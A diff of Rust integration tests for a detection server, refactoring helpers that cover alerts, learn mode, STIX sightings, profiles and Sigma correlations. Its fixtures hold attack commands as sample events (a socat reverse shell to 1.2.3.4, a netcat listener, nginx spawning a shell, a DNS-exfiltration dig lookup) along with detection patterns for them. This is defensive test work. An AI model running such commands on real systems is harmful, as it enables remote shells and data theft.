@@ -33,55 +33,68 @@ rules:
     actions: [alert, {tag: relay}, {job: {kind: process.list}}]
 "#;
 
-/// A Sigma rule and a Sigma correlation on it: curl run three times within a
-/// minute. The rule alone produces no indicator (the correlation does not say `generate`).
-const SIGMA_CORRELATION: &str = r#"
-title: curl run
-id: 9d2c1f00-0000-4000-8000-000000000001
-name: curl_run
+/// A Sigma rule on runs of `/{tool}` (id `…{n}1`, level low) and an event-count correlation
+/// on it (id `…{n}2`, level critical): `title`, per user within a minute, firing on
+/// `condition` (`gte: 3`, `lt: 2`, …). The rule alone produces no indicator (the correlation
+/// does not say `generate`).
+fn sigma_count(tool: &str, n: u8, title: &str, condition: &str) -> String {
+    format!(
+        r#"
+title: {tool} run
+id: 9d2c1f00-0000-4000-8000-0000000000{n}1
+name: {tool}_run
 logsource:
     product: linux
     category: process_creation
 detection:
     selection:
-        Image|endswith: /curl
+        Image|endswith: /{tool}
     condition: selection
 level: low
 ---
-title: curl run three times within a minute
-id: 9d2c1f00-0000-4000-8000-000000000002
+title: {title}
+id: 9d2c1f00-0000-4000-8000-0000000000{n}2
 correlation:
     type: event_count
     rules:
-        - curl_run
+        - {tool}_run
     group-by:
         - User
     timespan: 1m
     condition:
-        gte: 3
+        {condition}
 level: critical
-"#;
+"#
+    )
+}
 
-const STIX: &str = r#"{
-  "type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d",
-  "objects": [
-    {"type": "indicator", "spec_version": "2.1", "id": "indicator--1a2b3c4d-0000-4000-8000-000000000001",
-     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z",
-     "name": "DNS tool with a long random label", "pattern_type": "stix",
-     "pattern": "[process:name = 'dig' AND process:command_line MATCHES '[a-z0-9]{16,}\\\\.']",
-     "valid_from": "2020-01-01T00:00:00Z"},
-    {"type": "attack-pattern", "spec_version": "2.1", "id": "attack-pattern--1a2b3c4d-0000-4000-8000-000000000003",
-     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "name": "DNS exfiltration",
-     "external_references": [{"source_name": "mitre-attack", "external_id": "T1048.003"}]},
-    {"type": "intrusion-set", "spec_version": "2.1", "id": "intrusion-set--1a2b3c4d-0000-4000-8000-000000000004",
-     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "name": "Blind RCE crew"},
-    {"type": "relationship", "spec_version": "2.1", "id": "relationship--1a2b3c4d-0000-4000-8000-000000000005",
-     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "relationship_type": "indicates",
-     "source_ref": "indicator--1a2b3c4d-0000-4000-8000-000000000001", "target_ref": "attack-pattern--1a2b3c4d-0000-4000-8000-000000000003"},
-    {"type": "relationship", "spec_version": "2.1", "id": "relationship--1a2b3c4d-0000-4000-8000-000000000006",
-     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "relationship_type": "uses",
-     "source_ref": "intrusion-set--1a2b3c4d-0000-4000-8000-000000000004", "target_ref": "attack-pattern--1a2b3c4d-0000-4000-8000-000000000003"}
-  ]}"#;
+/// curl run three times within a minute (correlation `…0002`).
+fn sigma_correlation() -> String {
+    sigma_count("curl", 0, "curl run three times within a minute", "gte: 3")
+}
+
+/// "wget run fewer than two times within a minute" (an upper bound, correlation `…0012`):
+/// decided by the timer.
+fn sigma_few() -> String {
+    sigma_count("wget", 1, "wget run only once within a minute", "lt: 2")
+}
+
+/// The STIX indicator of [`stix_model`].
+const DIG_INDICATOR: &str = "indicator--1a2b3c4d-0000-4000-8000-000000000003";
+
+/// A STIX attack model: the crew's DNS exfiltration, indicated by dig resolving a long
+/// random label.
+fn stix_model() -> Value {
+    common::model_bundle(
+        "1a2b3c4d-0000-4000-8000-0000000000",
+        "Blind RCE crew",
+        ("DNS exfiltration", Some("T1048.003")),
+        (
+            "DNS tool with a long random label",
+            r"[process:name = 'dig' AND process:command_line MATCHES '[a-z0-9]{16,}\\.']",
+        ),
+    )
+}
 
 /// The configuration of one replica; replicas on one database share the signing key of the
 /// first one (`replica1`).
@@ -91,8 +104,8 @@ pub(crate) fn config(dir: &std::path::Path, data: &std::path::Path) -> ServerCon
     std::fs::create_dir_all(&rules).unwrap();
     std::fs::create_dir_all(&stix).unwrap();
     std::fs::write(rules.join("local.yml"), RULES).unwrap();
-    std::fs::write(rules.join("sigma_correlation.yml"), SIGMA_CORRELATION).unwrap();
-    std::fs::write(stix.join("dns.json"), STIX).unwrap();
+    std::fs::write(rules.join("sigma_correlation.yml"), sigma_correlation()).unwrap();
+    std::fs::write(stix.join("dns.json"), stix_model().to_string()).unwrap();
     let path = dir.join(format!(
         "server-{}.toml",
         data.file_name().unwrap().to_string_lossy()
@@ -162,6 +175,38 @@ pub(crate) async fn post_events(
     v
 }
 
+/// [`post_events`] as the first device of tenant acme.
+async fn post_a(w: &World, batch: &str, events: Vec<Value>) -> Value {
+    post_events(&w.app, &w.a().device().token, batch, events).await
+}
+
+/// [`post_a`] of one start of process `name` with `args` at `ts`.
+async fn post_exec(w: &World, batch: &str, ts: &str, name: &str, args: &[&str]) -> Value {
+    post_a(w, batch, vec![exec(ts, name, args, None)]).await
+}
+
+/// A start of process `name` with `args` by nginx (`/usr/sbin/nginx`) at `ts`.
+fn nginx_child(ts: &str, name: &str, args: &[&str]) -> Value {
+    exec(ts, name, args, Some("/usr/sbin/nginx"))
+}
+
+/// A curl run (the rule of [`sigma_correlation`]) at `ts`.
+fn curl(ts: &str) -> Value {
+    exec(ts, "curl", &["curl", "http://example.test/"], None)
+}
+
+/// The time of an alert's event.
+fn event_ts(alert: &Value) -> &str {
+    alert["event"]["ts"].as_str().unwrap()
+}
+
+/// `PUT /api/v1/detect/learn` with `body` as the holder of `token`.
+async fn set_learn(w: &World, token: &str, body: Value) -> (StatusCode, Value) {
+    w.call("PUT", "/api/v1/detect/learn", Some(token), Some(body))
+        .await
+        .sv()
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn event_alerts_have_the_lifecycle_of_hits() {
     let dir = tempfile::tempdir().unwrap();
@@ -171,23 +216,15 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
             exec("2026-12-01T10:00:00Z", "ls", &["ls"], None),
             exec("2026-12-01T10:00:01Z", "nc", &["nc", "-l", "4444"], None),
         ];
-        let r = post_events(&w.app, &w.a().device().token, "e1", events.clone()).await;
+        let r = post_a(&w, "e1", events.clone()).await;
         assert_eq!(
             (r["accepted"].as_u64(), r["alerts"].as_u64()),
             (Some(2), Some(1)),
             "{name}: {r}"
         );
         // A retry stores nothing twice.
-        post_events(&w.app, &w.a().device().token, "e1", events).await;
-        let (s, page) = w
-            .call(
-                "GET",
-                "/api/v1/alerts?rule=netcat-listener",
-                Some(&w.admin),
-                None,
-            )
-            .await
-            .sv();
+        post_a(&w, "e1", events).await;
+        let (s, page) = w.get("/api/v1/alerts?rule=netcat-listener", &w.admin).await;
         assert_eq!(s, StatusCode::OK, "{page}");
         let items = page["items"].as_array().unwrap();
         assert_eq!(items.len(), 1, "{name}: {page}");
@@ -200,105 +237,57 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
         let id = a["id"].as_i64().unwrap();
         // The customer sees the simplified alert and may only acknowledge it.
         let (s, c) = w
-            .call(
-                "GET",
-                &format!("/api/v1/alerts/{id}"),
-                Some(&w.a().customer),
-                None,
-            )
-            .await
-            .sv();
+            .get(&format!("/api/v1/alerts/{id}"), &w.a().customer)
+            .await;
         assert_eq!(s, StatusCode::OK);
         assert!(
             c.get("event").is_none() && c.get("indicators").is_none(),
             "{c}"
         );
-        let (s, _) = w
-            .call(
-                "POST",
-                &format!("/api/v1/alerts/{id}/state"),
-                Some(&w.a().customer),
-                Some(json!({"state": "false_positive"})),
-            )
-            .await
-            .sv();
-        assert_eq!(s, StatusCode::FORBIDDEN);
-        let (s, v) = w
-            .call(
-                "POST",
-                &format!("/api/v1/alerts/{id}/state"),
-                Some(&w.a().customer),
-                Some(json!({"state": "acknowledged", "expected_version": 0})),
-            )
-            .await
-            .sv();
-        assert_eq!(s, StatusCode::OK, "{v}");
-        let (s, v) = w
-            .call(
-                "POST",
-                &format!("/api/v1/alerts/{id}/state"),
-                Some(&w.admin),
-                Some(json!({"state": "false_positive", "expected_version": 0})),
-            )
-            .await
-            .sv();
-        assert_eq!(s, StatusCode::CONFLICT, "{name}: {v}");
-        let (s, v) = w
-            .call(
-                "POST",
-                &format!("/api/v1/alerts/{id}/state"),
-                Some(&w.admin),
-                Some(json!({"state": "false_positive", "expected_version": 1, "note": "pentest"})),
-            )
-            .await
-            .sv();
-        assert_eq!(s, StatusCode::OK, "{v}");
+        let state_uri = format!("/api/v1/alerts/{id}/state");
+        let (customer, admin) = (&w.a().customer, &w.admin);
+        for (token, change, status) in [
+            (
+                customer,
+                json!({"state": "false_positive"}),
+                StatusCode::FORBIDDEN,
+            ),
+            (
+                customer,
+                json!({"state": "acknowledged", "expected_version": 0}),
+                StatusCode::OK,
+            ),
+            (
+                admin,
+                json!({"state": "false_positive", "expected_version": 0}),
+                StatusCode::CONFLICT,
+            ),
+            (
+                admin,
+                json!({"state": "false_positive", "expected_version": 1, "note": "pentest"}),
+                StatusCode::OK,
+            ),
+        ] {
+            let (s, v) = w.post(&state_uri, token, change.clone()).await;
+            assert_eq!(s, status, "{name}: {change}: {v}");
+        }
         let (_, h) = w
-            .call(
-                "GET",
-                &format!("/api/v1/alerts/{id}/history"),
-                Some(&w.admin),
-                None,
-            )
-            .await
-            .sv();
+            .get(&format!("/api/v1/alerts/{id}/history"), &w.admin)
+            .await;
         let h = h["items"].as_array().unwrap();
         assert_eq!(h.len(), 2);
         assert_eq!(h[1]["to_state"], "false_positive");
         assert_eq!(h[1]["note"], "pentest");
-        let (_, open) = w
-            .call("GET", "/api/v1/alerts?state=new", Some(&w.admin), None)
-            .await
-            .sv();
+        let (_, open) = w.get("/api/v1/alerts?state=new", &w.admin).await;
         assert!(open["items"].as_array().unwrap().is_empty(), "{open}");
         // A suppression rule narrowed to the rule applies to alerts too.
-        let (s, v) = w.call("POST", "/api/v1/suppressions", Some(&w.admin), Some(json!({"tenant_id": w.a().id, "rule_name": "netcat-listener", "process_name": "nc"}))).await.sv();
+        let (s, v) = w.post("/api/v1/suppressions", &w.admin, json!({"tenant_id": w.a().id, "rule_name": "netcat-listener", "process_name": "nc"})).await;
         assert_eq!(s, StatusCode::CREATED, "{v}");
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "e2",
-            vec![exec("2026-12-01T11:00:00Z", "nc", &["nc"], None)],
-        )
-        .await;
+        let r = post_exec(&w, "e2", "2026-12-01T11:00:00Z", "nc", &["nc"]).await;
         assert_eq!(r["alerts"], 0, "{name}: suppressed: {r}");
-        let (_, sup) = w
-            .call(
-                "GET",
-                "/api/v1/alerts?state=suppressed",
-                Some(&w.admin),
-                None,
-            )
-            .await
-            .sv();
+        let (_, sup) = w.get("/api/v1/alerts?state=suppressed", &w.admin).await;
         assert_eq!(sup["items"].as_array().unwrap().len(), 1, "{sup}");
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "e3",
-            vec![exec("2026-12-01T11:00:00Z", "ncat", &["ncat"], None)],
-        )
-        .await;
+        let r = post_exec(&w, "e3", "2026-12-01T11:00:00Z", "ncat", &["ncat"]).await;
         assert_eq!(r["alerts"], 1, "another process still alerts: {r}");
         // A rule's job action queues a job for the device, once (not again on a retry).
         let socat = vec![exec(
@@ -307,18 +296,12 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
             &["socat", "tcp:1.2.3.4:9", "exec:sh"],
             None,
         )];
-        let r = post_events(&w.app, &w.a().device().token, "e4", socat.clone()).await;
+        let r = post_a(&w, "e4", socat.clone()).await;
         assert_eq!(r["alerts"], 1, "{r}");
-        post_events(&w.app, &w.a().device().token, "e4", socat).await;
+        post_a(&w, "e4", socat).await;
         let (s, jobs) = w
-            .call(
-                "GET",
-                &format!("/api/v1/jobs?tenant={}", w.a().id),
-                Some(&w.admin),
-                None,
-            )
-            .await
-            .sv();
+            .get(&format!("/api/v1/jobs?tenant={}", w.a().id), &w.admin)
+            .await;
         assert_eq!(s, StatusCode::OK, "{jobs}");
         let list: Vec<&Value> = jobs
             .as_array()
@@ -355,16 +338,10 @@ async fn event_alerts_have_the_lifecycle_of_hits() {
             tagged[0]
         );
         // Bad filters are clear errors.
-        let (s, v) = w
-            .call("GET", "/api/v1/alerts?state=bogus", Some(&w.admin), None)
-            .await
-            .sv();
+        let (s, v) = w.get("/api/v1/alerts?state=bogus", &w.admin).await;
         assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
         assert!(v["error"]["message"].as_str().unwrap().contains("bogus"));
-        let (s, _) = w
-            .call("GET", "/api/v1/alerts/999999", Some(&w.admin), None)
-            .await
-            .sv();
+        let (s, _) = w.get("/api/v1/alerts/999999", &w.admin).await;
         assert_eq!(s, StatusCode::NOT_FOUND);
     }
 }
@@ -374,71 +351,40 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
     let dir = tempfile::tempdir().unwrap();
     for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
-        let (s, v) = w
-            .call(
-                "PUT",
-                "/api/v1/detect/learn",
-                Some(&w.admin),
-                Some(json!({"tenant_id": "acme", "on": true, "hours": 24})),
-            )
-            .await
-            .sv();
+        let on = json!({"tenant_id": "acme", "on": true, "hours": 24});
+        let (s, v) = set_learn(&w, &w.admin, on).await;
         assert_eq!(s, StatusCode::OK, "{v}");
         assert_eq!(v["learning"], true);
-        let (s, v) = w
-            .call(
-                "PUT",
-                "/api/v1/detect/learn",
-                Some(&w.admin),
-                Some(json!({"tenant_id": "acme", "on": true, "hours": 0})),
-            )
-            .await
-            .sv();
-        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
-        let (s, _) = w
-            .call(
-                "PUT",
-                "/api/v1/detect/learn",
-                Some(&w.a().customer),
-                Some(json!({"tenant_id": "acme", "on": false})),
-            )
-            .await
-            .sv();
-        assert_eq!(
-            s,
-            StatusCode::FORBIDDEN,
-            "customers cannot switch learn mode"
-        );
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "l1",
-            vec![exec(
-                "2026-12-01T10:00:00Z",
-                "nc",
-                &["nc", "backup-host"],
-                None,
-            )],
-        )
-        .await;
+        // Refused: a learning period of no hours; a customer switching learn mode.
+        for (token, change, status) in [
+            (
+                &w.admin,
+                json!({"tenant_id": "acme", "on": true, "hours": 0}),
+                StatusCode::UNPROCESSABLE_ENTITY,
+            ),
+            (
+                &w.a().customer,
+                json!({"tenant_id": "acme", "on": false}),
+                StatusCode::FORBIDDEN,
+            ),
+        ] {
+            let (s, v) = set_learn(&w, token, change.clone()).await;
+            assert_eq!(s, status, "{change}: {v}");
+        }
+        let nc_backup = |batch, ts| post_exec(&w, batch, ts, "nc", &["nc", "backup-host"]);
+        let r = nc_backup("l1", "2026-12-01T10:00:00Z").await;
         assert_eq!(r["alerts"], 0, "{name}: learned, not alerted: {r}");
-        let (_, learned) = w
-            .call("GET", "/api/v1/alerts?learned=true", Some(&w.admin), None)
-            .await
-            .sv();
+        let (_, learned) = w.get("/api/v1/alerts?learned=true", &w.admin).await;
         let items = learned["items"].as_array().unwrap();
         assert_eq!(items.len(), 1, "{learned}");
         assert_eq!(items[0]["state"], "suppressed");
         assert_eq!(items[0]["state_changed_by"], "learn-mode");
         let (s, st) = w
-            .call(
-                "GET",
+            .get(
                 &format!("/api/v1/detect/learn?tenant={}", w.a().id),
-                Some(&w.a().customer),
-                None,
+                &w.a().customer,
             )
-            .await
-            .sv();
+            .await;
         assert_eq!(s, StatusCode::OK, "{st}");
         // The local rule and the static engine's risky-process entry fired.
         let p = st["proposals"].as_array().unwrap();
@@ -456,25 +402,15 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
             (Some("nc"), Some(1), Some(false))
         );
         let (s, created) = w
-            .call(
-                "POST",
+            .post(
                 "/api/v1/detect/learn/apply",
-                Some(&w.admin),
-                Some(json!({"tenant_id": w.a().id})),
+                &w.admin,
+                json!({"tenant_id": w.a().id}),
             )
-            .await
-            .sv();
+            .await;
         assert_eq!(s, StatusCode::OK, "{created}");
         assert_eq!(created["items"].as_array().unwrap().len(), 2, "{created}");
-        let (_, v) = w
-            .call(
-                "PUT",
-                "/api/v1/detect/learn",
-                Some(&w.admin),
-                Some(json!({"tenant_id": w.a().id, "on": false})),
-            )
-            .await
-            .sv();
+        let (_, v) = set_learn(&w, &w.admin, json!({"tenant_id": w.a().id, "on": false})).await;
         assert_eq!(v["learning"], false);
         assert!(
             v["proposals"]
@@ -484,29 +420,12 @@ async fn learn_mode_turns_would_be_alerts_into_suppressions() {
                 .all(|p| p["applied"] == true),
             "{v}"
         );
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "l2",
-            vec![exec(
-                "2026-12-01T12:00:00Z",
-                "nc",
-                &["nc", "backup-host"],
-                None,
-            )],
-        )
-        .await;
+        let r = nc_backup("l2", "2026-12-01T12:00:00Z").await;
         assert_eq!(
             r["alerts"], 0,
             "{name}: whitelisted by what was learned: {r}"
         );
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
-            "l3",
-            vec![exec("2026-12-01T12:00:00Z", "ncat", &["ncat"], None)],
-        )
-        .await;
+        let r = post_exec(&w, "l3", "2026-12-01T12:00:00Z", "ncat", &["ncat"]).await;
         assert_eq!(r["alerts"], 1, "{r}");
     }
 }
@@ -522,9 +441,8 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
             &["dig", "+short", "ifjeow0234f90iwefo2odj.wat.lol"],
             None,
         );
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
+        let r = post_a(
+            &w,
             "s1",
             vec![
                 dig.clone(),
@@ -533,10 +451,7 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
         )
         .await;
         assert_eq!(r["alerts"], 1, "{name}: {r}");
-        let (_, page) = w
-            .call("GET", "/api/v1/sightings", Some(&w.admin), None)
-            .await
-            .sv();
+        let (_, page) = w.get("/api/v1/sightings", &w.admin).await;
         let items = page["items"].as_array().unwrap();
         assert_eq!(
             items.len(),
@@ -544,19 +459,13 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
             "{name}: only the random label matches: {page}"
         );
         let s = &items[0];
-        assert_eq!(
-            s["indicator_id"],
-            "indicator--1a2b3c4d-0000-4000-8000-000000000001"
-        );
+        assert_eq!(s["indicator_id"], DIG_INDICATOR);
         assert_eq!(s["sighting"]["type"], "sighting");
         assert_eq!(s["sighting"]["sighting_of_ref"], s["indicator_id"]);
         assert_eq!(s["attack"]["attack_patterns"][0]["mitre_id"], "T1048.003");
         assert_eq!(s["attack"]["intrusion_sets"][0]["name"], "Blind RCE crew");
         assert!(!s["observed"].as_array().unwrap().is_empty());
-        let (_, alerts) = w
-            .call("GET", "/api/v1/alerts", Some(&w.admin), None)
-            .await
-            .sv();
+        let (_, alerts) = w.get("/api/v1/alerts", &w.admin).await;
         let a = &alerts["items"][0];
         assert_eq!(s["alert_id"], a["id"], "the sighting names its alert");
         assert!(
@@ -575,25 +484,24 @@ async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
             "last_seen_utc": "2026-12-01T10:00:00Z", "hit_count": 1, "sample_events": [dig]}]});
         for _ in 0..2 {
             let (st, v) = w
-                .call(
-                    "POST",
-                    "/api/v1/hits",
-                    Some(&w.a().device().token),
-                    Some(hit.clone()),
-                )
-                .await
-                .sv();
+                .post("/api/v1/hits", &w.a().device().token, hit.clone())
+                .await;
             assert_eq!(st, StatusCode::OK, "{v}");
         }
-        let (_, page) = w.call("GET", &format!("/api/v1/sightings?indicator=indicator--1a2b3c4d-0000-4000-8000-000000000001&device={}", w.a().device().id), Some(&w.admin), None).await.sv();
+        let (_, page) = w
+            .get(
+                &format!(
+                    "/api/v1/sightings?indicator={DIG_INDICATOR}&device={}",
+                    w.a().device().id
+                ),
+                &w.admin,
+            )
+            .await;
         let items = page["items"].as_array().unwrap();
         assert_eq!(items.len(), 2, "{name}: {page}");
         assert_eq!(items[0]["batch_id"], "hits:h1");
         // The rules status lists the loaded patterns.
-        let (_, st) = w
-            .call("GET", "/api/v1/detect/rules", Some(&w.admin), None)
-            .await
-            .sv();
+        let (_, st) = w.get("/api/v1/detect/rules", &w.admin).await;
         assert_eq!(st["stix"]["patterns"], 1, "{st}");
     }
 }
@@ -625,41 +533,21 @@ async fn a_sighting_the_database_refuses_is_counted_and_its_batch_refused() {
     let failed = || outpost_server::metrics::metrics().sightings_failed.get();
     let before = failed();
     let (s, v) = w
-        .call(
-            "POST",
-            "/api/v1/events",
-            Some(&w.a().device().token),
-            Some(batch.clone()),
-        )
-        .await
-        .sv();
+        .post("/api/v1/events", &w.a().device().token, batch.clone())
+        .await;
     assert!(s.is_server_error(), "{s} {v}");
     assert_eq!(failed() - before, 1, "the refused sighting is counted");
-    let (_, page) = w
-        .call("GET", "/api/v1/sightings", Some(&w.admin), None)
-        .await
-        .sv();
+    let (_, page) = w.get("/api/v1/sightings", &w.admin).await;
     assert_eq!(page["items"].as_array().unwrap().len(), 0, "{page}");
     // Delivered again once the database takes sightings: stored, nothing counted.
     sqlx::query("DROP TRIGGER refuse_sightings")
         .execute(&db)
         .await
         .unwrap();
-    let (s, v) = w
-        .call(
-            "POST",
-            "/api/v1/events",
-            Some(&w.a().device().token),
-            Some(batch),
-        )
-        .await
-        .sv();
+    let (s, v) = w.post("/api/v1/events", &w.a().device().token, batch).await;
     assert_eq!(s, StatusCode::OK, "{v}");
     assert_eq!(failed() - before, 1);
-    let (_, page) = w
-        .call("GET", "/api/v1/sightings", Some(&w.admin), None)
-        .await
-        .sv();
+    let (_, page) = w.get("/api/v1/sightings", &w.admin).await;
     assert_eq!(page["items"].as_array().unwrap().len(), 1, "{page}");
 }
 
@@ -672,23 +560,12 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
         let prof_a = w.state.scoring.profiles().unwrap().clone();
         let prof_b = state_b.scoring.profiles().unwrap().clone();
         // Replica A learns nginx starting ls during the window (60 s from the first event).
-        post_events(
-            &w.app,
-            &w.a().device().token,
+        post_a(
+            &w,
             "p1",
             vec![
-                exec(
-                    "2026-12-01T10:00:00Z",
-                    "ls",
-                    &["ls", "-l"],
-                    Some("/usr/sbin/nginx"),
-                ),
-                exec(
-                    "2026-12-01T10:00:30Z",
-                    "ls",
-                    &["ls", "-l"],
-                    Some("/usr/sbin/nginx"),
-                ),
+                nginx_child("2026-12-01T10:00:00Z", "ls", &["ls", "-l"]),
+                nginx_child("2026-12-01T10:00:30Z", "ls", &["ls", "-l"]),
             ],
         )
         .await;
@@ -700,18 +577,8 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
             &w.a().device().token,
             "p2",
             vec![
-                exec(
-                    "2026-12-01T10:05:00Z",
-                    "ls",
-                    &["ls", "-l"],
-                    Some("/usr/sbin/nginx"),
-                ),
-                exec(
-                    "2026-12-01T10:05:01Z",
-                    "sh",
-                    &["sh", "-c", "id"],
-                    Some("/usr/sbin/nginx"),
-                ),
+                nginx_child("2026-12-01T10:05:00Z", "ls", &["ls", "-l"]),
+                nginx_child("2026-12-01T10:05:01Z", "sh", &["sh", "-c", "id"]),
             ],
         )
         .await;
@@ -742,71 +609,48 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
         // Visible in the API (after B merged its deviation).
         prof_b.sync(&store).await.unwrap();
         let (s, page) = w
-            .call(
-                "GET",
+            .get(
                 "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
-                Some(&w.a().customer),
-                None,
+                &w.a().customer,
             )
-            .await
-            .sv();
+            .await;
         assert_eq!(s, StatusCode::OK, "{page}");
         let p = &page["items"][0];
         assert_eq!(p["children"], json!(["/usr/bin/ls"]), "{name}: {p}");
         assert_eq!(p["status"], "profiled");
         assert_eq!(p["deviations"], 1, "{p}");
-        let (_, all) = w
-            .call(
-                "GET",
-                "/api/v1/profiles?status=profiled",
-                Some(&w.admin),
-                None,
+        let (_, all) = w.get("/api/v1/profiles?status=profiled", &w.admin).await;
+        assert!(all["items"].as_array().unwrap().len() >= 2, "{all}");
+        // Reset on B reaches A at its next sync: nginx learns again, the shell is not scored.
+        let nginx = json!({"tenant_id": w.a().id, "subject": "exe:/usr/sbin/nginx"});
+        let nope = json!({"tenant_id": w.a().id, "subject": "exe:/nope"});
+        for (token, reset, status, count) in [
+            (&w.a().customer, nginx.clone(), StatusCode::FORBIDDEN, None),
+            (&w.admin, nginx, StatusCode::OK, Some(1)),
+            (&w.admin, nope, StatusCode::NOT_FOUND, None),
+        ] {
+            let (s, v) = common::call(
+                &app_b,
+                "POST",
+                "/api/v1/profiles/reset",
+                Some(token),
+                Some(reset),
             )
             .await
             .sv();
-        assert!(all["items"].as_array().unwrap().len() >= 2, "{all}");
-        // Reset on B reaches A at its next sync: nginx learns again, the shell is not scored.
-        let (s, _) = common::call(
-            &app_b,
-            "POST",
-            "/api/v1/profiles/reset",
-            Some(&w.a().customer),
-            Some(json!({"tenant_id": w.a().id, "subject": "exe:/usr/sbin/nginx"})),
-        )
-        .await
-        .sv();
-        assert_eq!(s, StatusCode::FORBIDDEN);
-        let (s, v) = common::call(
-            &app_b,
-            "POST",
-            "/api/v1/profiles/reset",
-            Some(&w.admin),
-            Some(json!({"tenant_id": w.a().id, "subject": "exe:/usr/sbin/nginx"})),
-        )
-        .await
-        .sv();
-        assert_eq!(s, StatusCode::OK, "{v}");
-        assert_eq!(v["reset"], 1);
-        let (s, _) = common::call(
-            &app_b,
-            "POST",
-            "/api/v1/profiles/reset",
-            Some(&w.admin),
-            Some(json!({"tenant_id": w.a().id, "subject": "exe:/nope"})),
-        )
-        .await
-        .sv();
-        assert_eq!(s, StatusCode::NOT_FOUND);
+            assert_eq!(s, status, "{v}");
+            if let Some(n) = count {
+                assert_eq!(v["reset"], n);
+            }
+        }
         prof_a.sync(&store).await.unwrap();
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
+        let r = post_a(
+            &w,
             "p3",
-            vec![exec(
+            vec![nginx_child(
                 "2026-12-01T10:10:00Z",
                 "sh",
                 &["sh", "-c", "id"],
-                Some("/usr/sbin/nginx"),
             )],
         )
         .await;
@@ -816,14 +660,11 @@ async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere()
         );
         prof_a.sync(&store).await.unwrap();
         let (_, page) = w
-            .call(
-                "GET",
+            .get(
                 "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
-                Some(&w.admin),
-                None,
+                &w.admin,
             )
-            .await
-            .sv();
+            .await;
         let p = &page["items"][0];
         assert_eq!(
             (p["epoch"].as_i64(), p["status"].as_str()),
@@ -848,7 +689,6 @@ async fn sigma_correlations_alert_per_tenant() {
             .create_device(&beta.id, "web2", None, None)
             .await
             .unwrap();
-        let curl = |ts: &str| exec(ts, "curl", &["curl", "http://example.test/"], None);
         // Two curl runs in tenant beta: no alert.
         let r = post_events(
             &w.app,
@@ -859,9 +699,8 @@ async fn sigma_correlations_alert_per_tenant() {
         .await;
         assert_eq!(r["alerts"], 0, "{name}: {r}");
         // Three in acme: the third completes the correlation (beta's two do not count).
-        let r = post_events(
-            &w.app,
-            &w.a().device().token,
+        let r = post_a(
+            &w,
             "a1",
             vec![
                 curl("2026-12-01T10:00:10Z"),
@@ -872,27 +711,18 @@ async fn sigma_correlations_alert_per_tenant() {
         .await;
         assert_eq!(r["alerts"], 1, "{name}: {r}");
         let (s, page) = w
-            .call(
-                "GET",
+            .get(
                 "/api/v1/alerts?rule=9d2c1f00-0000-4000-8000-000000000002",
-                Some(&w.admin),
-                None,
+                &w.admin,
             )
-            .await
-            .sv();
+            .await;
         assert_eq!(s, StatusCode::OK, "{page}");
         let items = page["items"].as_array().unwrap();
         assert_eq!(items.len(), 1, "{name}: {page}");
         let a = &items[0];
         assert_eq!(a["tenant_id"], w.a().id.as_str(), "{a}");
         assert_eq!(a["risk_score"], 140, "{a}");
-        assert!(
-            a["event"]["ts"]
-                .as_str()
-                .unwrap()
-                .starts_with("2026-12-01T10:00:30"),
-            "{a}"
-        );
+        assert!(event_ts(a).starts_with("2026-12-01T10:00:30"), "{a}");
         // The third in beta (within its minute) completes beta's own correlation.
         let r = post_events(
             &w.app,
@@ -917,44 +747,10 @@ async fn sigma_correlations_alert_per_tenant() {
     }
 }
 
-/// "wget run fewer than two times within a minute" (an upper bound): decided by the timer.
-const SIGMA_FEW: &str = r#"
-title: wget run
-id: 9d2c1f00-0000-4000-8000-000000000011
-name: wget_run
-logsource:
-    product: linux
-    category: process_creation
-detection:
-    selection:
-        Image|endswith: /wget
-    condition: selection
-level: low
----
-title: wget run only once within a minute
-id: 9d2c1f00-0000-4000-8000-000000000012
-correlation:
-    type: event_count
-    rules:
-        - wget_run
-    group-by:
-        - User
-    timespan: 1m
-    condition:
-        lt: 2
-level: critical
-"#;
-
 async fn alerts_of(w: &World, rule: &str) -> Vec<Value> {
     let (s, page) = w
-        .call(
-            "GET",
-            &format!("/api/v1/alerts?rule={rule}"),
-            Some(&w.admin),
-            None,
-        )
-        .await
-        .sv();
+        .get(&format!("/api/v1/alerts?rule={rule}"), &w.admin)
+        .await;
     assert_eq!(s, StatusCode::OK, "{page}");
     page["items"].as_array().unwrap().clone()
 }
@@ -966,26 +762,16 @@ async fn sigma_correlations_count_a_retried_batch_once() {
     let dir = tempfile::tempdir().unwrap();
     for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
-        let curl = |ts: &str| exec(ts, "curl", &["curl", "http://example.test/"], None);
